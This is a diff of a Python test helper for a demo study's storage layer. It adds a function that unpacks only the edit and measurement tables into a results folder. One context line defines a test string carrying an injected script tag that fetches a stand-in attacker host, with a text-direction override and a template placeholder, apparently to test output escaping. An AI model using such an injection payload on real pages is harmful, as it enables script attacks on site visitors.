@@ -1,11 +1,15 @@
-"""The demo study with a row for every figure that a report can have, written by the real writer."""
+"""The demo study's edits, and with a row for every figure, written by the real writer."""
 
 from __future__ import annotations
 
 import math
+import shutil
+import tempfile
 from pathlib import Path
 
-from storage.demo_rows import unpack
+import pytest
+
+from storage.demo_rows import ROWS, unpack
 from storage.queries import ask
 from tests.storage.conftest import Folder, make_row
 
@@ -13,11 +17,30 @@ ATTACK = "<script>fetch('http://evil.example')</script> </script>\u202e {{x}} da
 """A text that is code to something that draws figures."""
 KINDS = ("bare", "prefixed", "solved", "one_prefix", "first_token")
 N_LAYERS = 2
+_BEYOND_EDITS = {
+    "anatomies",
+    "anatomy_findings",
+    "continuations",
+    "forecast_calibrations",
+    "forecasts",
+    "key_points",
+    "position_profiles",
+}
+
+
+def unpack_edits(results: Path) -> None:
+    """Make a results folder of the demo study's edits and measurements, and nothing beyond."""
+    with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
+        for path in ROWS.glob("*.parquet"):
+            if path.stem not in _BEYOND_EDITS:
+                shutil.copy(path, folder)
+        patch.setattr("storage.demo_rows.ROWS", Path(folder))
+        unpack(results)
 
 
 def write_whole_study(results: Path) -> str:
     """Make a results folder of the demo study and more; return the study's id."""
-    unpack(results)
+    unpack_edits(results)
     folder = Folder(results)
     study_id = ask(results, "select study_id from studies").item()
     models = ask(results, "select model_id from study_models order by name")["model_id"].to_list()
